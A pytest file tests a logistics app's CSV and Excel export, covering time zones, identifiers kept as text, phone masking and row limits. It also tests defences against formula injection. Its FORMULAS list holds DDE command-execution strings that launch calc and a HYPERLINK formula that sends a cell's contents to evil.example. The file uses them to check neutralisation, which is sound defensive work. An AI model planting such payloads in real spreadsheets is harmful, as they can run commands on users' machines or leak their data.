"""Exports: what a spreadsheet opens is what the list showed; nothing runs, nothing is rounded, nothing is lost."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Sequence
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from domain.time import SHANGHAI
from monitor.intake.values import waybill_no
from monitor.web import export
from monitor.web.export import Cell, Column, Kind, chunks, csv_file, neutral, xlsx_file

AT = datetime(2026, 11, 22, 0, 10, 5, tzinfo=UTC)
COLUMNS = (
    Column("工单"),
    Column("运单号", width=20),
    Column("开单时间", Kind.MOMENT),
    Column("次数", Kind.NUMBER),
)


def as_csv(
    *rows: Sequence[Cell], columns: Sequence[Column] = COLUMNS, zone: ZoneInfo = SHANGHAI
) -> list[list[str]]:
    with csv_file(columns, rows, zone, cut="到此为止") as file:
        raw = file.read()
    assert raw.startswith(b"\xef\xbb\xbf"), "Excel takes it for GBK otherwise"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def as_xlsx(
    *rows: Sequence[Cell], columns: Sequence[Column] = COLUMNS, zone: ZoneInfo = SHANGHAI
) -> list[list[object]]:
    with xlsx_file(columns, rows, zone, sheet="工单", cut="到此为止") as file:
        book = CalamineWorkbook.from_filelike(file)
        assert book.sheet_names == ["工单"]
        return [list(row) for row in book.get_sheet_by_index(0).to_python()]


def one(text: str) -> str:
    """A text as the cell of a CSV."""
    return as_csv([text], columns=[Column("x")])[1][0]


# ── what is kept ─────────────────────────────────────────────────────────────────────────────────


def test_a_csv_holds_the_rows_under_their_headings() -> None:
    assert as_csv(["T-20261122-0001", "YT8812345678901", AT, 3], ["T-2", "x", None, None]) == [
        ["工单", "运单号", "开单时间", "次数"],
        ["T-20261122-0001", "YT8812345678901", "2026-11-22 08:10:05", "3"],
        ["T-2", "x", "", ""],
    ]


def test_a_workbook_holds_texts_dates_and_numbers() -> None:
    heading, row, empty = as_xlsx(["T-1", "75812345678901", AT, 3], ["T-2", "", None, None])
    assert heading == ["工单", "运单号", "开单时间", "次数"]
    assert row == ["T-1", "75812345678901", datetime(2026, 11, 22, 8, 10, 5), 3]  # noqa: DTZ001
    assert empty == ["T-2", "", "", ""]


def test_times_are_of_the_configured_zone() -> None:
    new_york = ZoneInfo("America/New_York")
    assert as_csv(["", "", AT, 1], zone=new_york)[1][2] == "2026-11-21 19:10:05"
    assert as_xlsx(["", "", AT, 1], zone=new_york)[1][2] == datetime(2026, 11, 21, 19, 10, 5)  # noqa: DTZ001


def test_a_moment_before_excel_can_count_is_text() -> None:
    assert as_xlsx(["", "", datetime(1600, 1, 1, tzinfo=UTC), 1])[1][2] == "1600-01-01T00:00:00+00:00"


def test_identifiers_are_text_cells_in_a_workbook() -> None:
    for number in ("75812345678901", "0012345", "2E5", "1234567890123456789", "2026-11-22", "=1+1", "true"):
        [_, row] = as_xlsx([number], columns=[Column("运单号")])
        assert row == [number]


@pytest.mark.parametrize(
    "number", ["75812345678901", "123456789012", "1234567890123456789", "00123", "2E5", "12.5e+7", "3-4"]
)
def test_numbers_that_excel_would_change_are_kept_as_text_in_a_csv(number: str) -> None:
    assert one(number) == number + "\t"


@pytest.mark.parametrize("number", ["75812345678901", "00123456789", "YT8812345678901", "2E5123456789"])
def test_our_own_import_reads_back_what_we_wrote(number: str) -> None:
    assert waybill_no(one(number))[0] == number


@pytest.mark.parametrize("text", ["T-20261122-0001", "旗舰店", "12", "广东 深圳", "YT8812345678901", "a=b"])
def test_everything_else_is_left_alone(text: str) -> None:
    assert one(text) == text


def test_quotation_marks_commas_and_line_breaks_do_not_break_the_columns() -> None:
    assert as_csv(['a"b,c', "一\n二\r\n三", None, 1])[1] == ['a"b,c', "一 二 三", "", "1"]


# ── what is not run ──────────────────────────────────────────────────────────────────────────────

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+1",
    "+86 10",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|cmd",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "﹦1",
    "﹢1",
    "﹣1",
    "﹫1",
    "−1+1",
    '"=1+1',
    '"=1+1"',
    '""=1+1',
    "'=1+1",
    "`=1+1",
    '="1234"',
    '=DDE("cmd";"/C calc";"x")',
    "\u200b=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\x00=1+1",
]


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_formula_leaves_in_a_csv(text: str) -> None:
    got = one(text)
    assert got.startswith("'"), got
    assert got.count("\n") == got.count("\r") == 0


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_workbook_holds_them_as_plain_texts(text: str) -> None:
    with xlsx_file([Column("x")], [[text]], SHANGHAI, sheet="x", cut="") as file:
        raw = file.read()
    with zipfile.ZipFile(io.BytesIO(raw)) as packed:
        sheet = packed.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet
        assert 't="inlineStr"' in sheet
        assert not [
            name for name in packed.namelist() if "externalLink" in name or "hyperlink" in name.lower()
        ]


@given(st.text(max_size=40))
def test_whatever_the_text_a_csv_cell_never_begins_a_formula(text: str) -> None:
    shown = one(text)
    assert shown[:1] not in tuple("=+-@\t\r\n＝＋－＠")
    assert shown.strip("\t").lstrip("'\"` ")[:1] not in tuple("=+-@") or shown.startswith("'")


@given(st.text(max_size=60))
def test_neutral_keeps_the_text_and_adds_at_most_an_apostrophe(text: str) -> None:
    assert neutral(text) in (text, "'" + text)
    assert neutral(neutral(text)).lstrip("'") == text.lstrip("'")


def test_hostile_texts_are_made_visible_masked_and_cut() -> None:
    row = ["联系 13812345678", "a\u202eb\x07c", "é" * 10_000, "x_x0041_y"]
    got = as_csv(row, columns=[Column(str(n)) for n in range(4)])[1]
    assert got[0] == "联系 138******78"
    assert got[1] == "abc"
    assert len(got[2]) == 2000
    assert got[3] == "x_x0041_y"
    in_a_workbook = as_xlsx(row, columns=[Column(str(n)) for n in range(4)])[1]
    assert in_a_workbook == got


def test_a_waybill_number_is_nobodys_phone() -> None:
    columns = [Column("运单号", Kind.IDENTIFIER), Column("留言")]
    assert as_csv(["13812345678", "13812345678"], columns=columns)[1] == ["13812345678", "138******78"]
    assert as_xlsx(["13812345678", "13812345678"], columns=columns)[1] == ["13812345678", "138******78"]


def test_a_hostile_heading_is_harmless_too() -> None:
    assert as_csv(columns=[Column("=1+1")])[0] == ["'=1+1"]


# ── how much ─────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("rows, told", [(3, False), (4, True), (40, True)])
def test_a_file_that_was_cut_says_so_in_its_last_line(
    rows: int, told: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "MOST", 3)
    each = [[str(n)] for n in range(rows)]
    for got in (as_csv(*each, columns=[Column("x")]), as_xlsx(*each, columns=[Column("x")])):
        assert len(got) == 1 + 3 + told
        assert (got[-1] == ["到此为止"]) is told


def test_the_rows_are_asked_for_one_at_a_time_and_no_further_than_needed(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(export, "MOST", 3)
    asked = iter(range(100))
    with csv_file([Column("x")], ([str(n)] for n in asked), SHANGHAI, cut="到此为止"):
        assert next(asked) == 4, "one more than fits tells that there is more"


def test_a_file_is_closed_when_the_reader_goes_away() -> None:
    file = csv_file([Column("x")], [["y" * 1000] for _ in range(1000)], SHANGHAI, cut="")
    pieces = chunks(file)
    assert len(next(pieces)) == 64 * 1024
    pieces.close()  # type: ignore[attr-defined]
    assert file.closed


def test_rows_that_break_off_leave_no_file_open() -> None:
    def rows() -> object:
        yield ["1"]
        raise RuntimeError("the store went away")

    for make in (
        lambda: csv_file([Column("x")], rows(), SHANGHAI, cut=""),  # type: ignore[arg-type]
        lambda: xlsx_file([Column("x")], rows(), SHANGHAI, sheet="x", cut=""),  # type: ignore[arg-type]
    ):
        with pytest.raises(RuntimeError, match="went away"):
            make()
